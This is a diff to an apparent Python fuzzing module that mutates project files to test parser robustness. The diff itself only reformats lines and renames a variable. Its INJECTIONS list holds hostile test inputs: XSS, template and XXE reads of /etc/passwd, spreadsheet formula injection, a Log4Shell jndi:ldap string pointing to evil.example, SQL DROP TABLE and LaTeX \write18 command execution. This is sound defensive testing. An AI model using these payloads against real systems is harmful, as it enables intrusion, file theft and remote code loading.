@@ -29,13 +29,19 @@ ADDRESSES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<scri
              "https://evil.example/" + "x" * 5000, "https://xn--80ak6aa92e.com/", "http://127.0.0.1:1/",
              "https://evil.example/<>", "ftp://evil.example/x", "https:\\\\evil.example", "mailto:a@b")
 INJECTIONS = (
-    "<script>window.__pwned=1</script>", "<img src=x onerror=window.__pwned=1>", "</title></script><svg onload=alert(1)>",
-    "[text](javascript:alert(1)) ![x](https://evil.example/x.png)", "{{ config.__class__ }} {% include '/etc/passwd' %}",
+    "<script>window.__pwned=1</script>", "<img src=x onerror=window.__pwned=1>",
+    "</title></script><svg onload=alert(1)>",
+    
+    "[text](javascript:alert(1)) ![x](https://evil.example/x.png)",
+    "{{ config.__class__ }} {% include '/etc/passwd' %}",
     "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3", "#set page(fill: red)",
     "#panic(\"in\") $ sys.version $", "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>", "&lt;b&gt; &amp;x; &#0;",
-    "\"\"\" . <http://evil.example/s> <http://evil.example/p> \"o\" .", "\"}],\"@context\":\"https://evil.example\",\"x\":[{\"",
+    "\"\"\" . <http://evil.example/s> <http://evil.example/p> \"o\" .",
+    "\"}],\"@context\":\"https://evil.example\",\"x\":[{\"",
     "{=raw html} ::: note", "--8<-- \"/etc/passwd\"", "!!! danger \"x\"", "~T {=a ~b} =1 ->x", "<!-- --> <? ?> <% %>",
-    "${jndi:ldap://evil.example/a}", "'; DROP TABLE acts; --", "\\input{/etc/passwd} \\write18{id}", "[sound:x.mp3]{{c1::x}}",
+    
+    "${jndi:ldap://evil.example/a}", "'; DROP TABLE acts; --", "\\input{/etc/passwd} \\write18{id}",
+    "[sound:x.mp3]{{c1::x}}",
 )
 UNSEEN = ("\u202e", "\u2066", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u061c", "\U000e0041", "\u180e")
 
@@ -108,7 +114,7 @@ def _added(wanted: Chosen, values: tuple[str, ...]) -> Callable[[Project, random
 
 
 def _misspell_key(project: Project, rng: random.Random) -> Spoilt:
-    name, tree, place, value = _chosen(project, rng, lambda place, _: isinstance(place[-1], str))
+    name, tree, place, _ = _chosen(project, rng, lambda place, _: isinstance(place[-1], str))
     holder, key = parent(tree, place), str(place[-1])
     cut = rng.randrange(len(key))
     wrong = rng.choice((key[:cut] + key[cut + 1:], key[:cut] + "x" + key[cut:], key.upper(), f"{key} ", f"{key}\u200b"))
@@ -144,9 +150,13 @@ KINDS = (
     Kind("delete-key", 180, _delete(lambda place, _: isinstance(place[-1], str))),
     Kind("delete-entry", 90, _delete(lambda place, _: isinstance(place[-1], int))),
     Kind("duplicate-entry", 50, _double_entry),
+    
     Kind("swap-values", 90, _swap),
+    
     Kind("retype", 140, _value(lambda *_: True, OF_ANOTHER_TYPE)),
-    Kind("empty-text", 40, _value(_leaf, ("", " ", "\u00a0", "\u200b", "\u2060\u200b", "...", "\n", "\ufeff"), raw=False)),
+    
+    Kind("empty-text", 40, _value(_leaf, ("", " ", "\u00a0", "\u200b", "\u2060\u200b", "...", "\n", "\ufeff"),
+                                  raw=False)),
     Kind("misspelt-key", 50, _misspell_key),
     Kind("unknown-key", 30, _unknown_key),
     Kind("misspelt-value", 70, _misspell_value),
